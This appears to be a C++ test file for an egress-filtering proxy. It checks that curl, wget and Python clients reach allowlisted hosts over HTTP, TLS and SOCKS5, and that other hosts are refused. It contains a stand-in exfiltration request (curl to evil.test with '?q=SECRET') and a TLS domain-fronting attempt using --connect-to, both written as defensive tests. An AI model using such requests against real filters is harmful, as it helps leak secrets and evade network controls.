// Programs that people use, through the proxy: by name, with TLS, with SOCKS5, and refused.
#include <gtest/gtest.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

#include "net/net_testing.h"

namespace hotcell::net {
namespace {

using testing::World;

std::string output_of(const std::string& command) {
  std::string out;
  FILE* pipe = ::popen(cat("{ ", command, "; } 2>&1").c_str(), "r");
  if (pipe == nullptr) return out;
  char chunk[4096];
  for (std::size_t n; (n = ::fread(chunk, 1, sizeof chunk, pipe)) > 0;) out.append(chunk, n);
  ::pclose(pipe);
  return out;
}

// An HTTP or HTTPS server of its own, in Python; with a certificate for api.good.test.
class WebServer {
 public:
  explicit WebServer(bool tls) {
    const char* tmp = ::getenv("TMPDIR");
    std::string pattern = cat(tmp != nullptr ? tmp : "/tmp", "/hotcell-net-XXXXXX");
    folder = ::mkdtemp(pattern.data()) != nullptr ? pattern : "";
    if (tls)
      output_of(cat("openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 -subj /CN=api.good.test -addext ",
                    "subjectAltName=DNS:api.good.test,DNS:x.pkg.test -keyout ", folder, "/key -out ", folder, "/cert"));
    const char* script = R"(
import http.server, ssl, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = ('hello from ' + self.headers['Host'] + self.path + '\n').encode()
        self.send_response(200); self.send_header('Content-Length', str(len(body))); self.end_headers(); self.wfile.write(body)
    def log_message(self, *a): pass
s = http.server.ThreadingHTTPServer(('127.0.0.1', 0), H)
if sys.argv[1]:
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); c.load_cert_chain(sys.argv[1] + '/cert', sys.argv[1] + '/key')
    s.socket = c.wrap_socket(s.socket, server_side=True)
print(s.server_address[1], flush=True)
s.serve_forever()
)";
    int out[2];
    EXPECT_EQ(::pipe2(out, O_CLOEXEC), 0);
    pid_ = ::fork();
    if (pid_ == 0) {
      ::dup2(out[1], 1);
      ::execlp("python3", "python3", "-c", script, tls ? folder.c_str() : "", nullptr);
      ::_exit(127);
    }
    ::close(out[1]);
    said_ = sys::Fd(out[0]);
    std::string line;
    for (char c; ::read(said_.get(), &c, 1) == 1 && c != '\n';) line += c;
    port = static_cast<std::uint16_t>(::atoi(line.c_str()));
  }
  ~WebServer() {
    ::kill(pid_, SIGKILL);
    ::waitpid(pid_, nullptr, 0);
    if (!folder.empty()) output_of(cat("rm -rf '", folder, "'"));
  }
  std::string folder;
  std::uint16_t port = 0;

 private:
  pid_t pid_ = 0;
  sys::Fd said_;
};

std::string with_proxy(const World& world, const std::string& command) {
  std::string url = cat("http://127.0.0.1:", world.port);
  return output_of(cat("export http_proxy=", url, " https_proxy=", url, " HTTP_PROXY=", url, " HTTPS_PROXY=", url, " no_proxy= NO_PROXY=; ", command));
}

const RuleOptions kGood{.allow = {"api.good.test", "*.pkg.test"}};

TEST(Clients, PlainHttp) {
  WebServer web(false);
  ASSERT_NE(web.port, 0);
  World world(kGood);
  world.upstream = web.port;
  EXPECT_EQ(with_proxy(world, "curl -sS http://api.good.test/a"), "hello from api.good.test/a\n");
  EXPECT_EQ(with_proxy(world, "curl -sS http://x.pkg.test:8080/b http://api.good.test/c"), "hello from x.pkg.test:8080/b\nhello from api.good.test/c\n");
  std::string py = R"py(python3 -c "import urllib.request;print(urllib.request.urlopen('http://x.pkg.test/p').read().decode(),end='')")py";
  EXPECT_EQ(with_proxy(world, py), "hello from x.pkg.test/p\n");
  EXPECT_EQ(with_proxy(world, "wget -qO- http://api.good.test/w"), "hello from api.good.test/w\n");
  std::string refused = with_proxy(world, "curl -sS -i http://evil.test/?q=SECRET");
  EXPECT_NE(refused.find("403 Forbidden"), std::string::npos) << refused;
  EXPECT_NE(refused.find("--allow-domain evil.test"), std::string::npos) << refused;
  std::string socks = output_of(cat("curl -sS --proxy socks5h://127.0.0.1:", world.port, " http://api.good.test/s"));
  EXPECT_EQ(socks, "hello from api.good.test/s\n");
}

TEST(Clients, Tls) {
  WebServer web(true);
  ASSERT_NE(web.port, 0);
  World world(kGood);
  world.upstream = web.port;
  std::string ca = web.folder + "/cert";
  EXPECT_EQ(with_proxy(world, cat("curl -sS --cacert ", ca, " https://api.good.test/a")), "hello from api.good.test/a\n");
  std::string py = cat("SSL_CERT_FILE=", ca, R"py( python3 -c "import urllib.request;print(urllib.request.urlopen('https://x.pkg.test/p').read().decode(),end='')")py");
  EXPECT_EQ(with_proxy(world, py), "hello from x.pkg.test/p\n");
  EXPECT_EQ(with_proxy(world, cat("wget -qO- --ca-certificate=", ca, " https://api.good.test/w")), "hello from api.good.test/w\n");
  EXPECT_NE(with_proxy(world, cat("curl -sS --cacert ", ca, " https://evil.test/")).find("403"), std::string::npos);
  // An allowed tunnel, and another name in the TLS that goes through it.
  std::string fronted = cat("curl -sS --cacert ", ca, " --connect-to evil.test:443:api.good.test:443 https://evil.test/");
  EXPECT_NE(with_proxy(world, fronted).find("unrecognized name"), std::string::npos) << with_proxy(world, fronted);
}

}  // namespace
}  // namespace hotcell::net
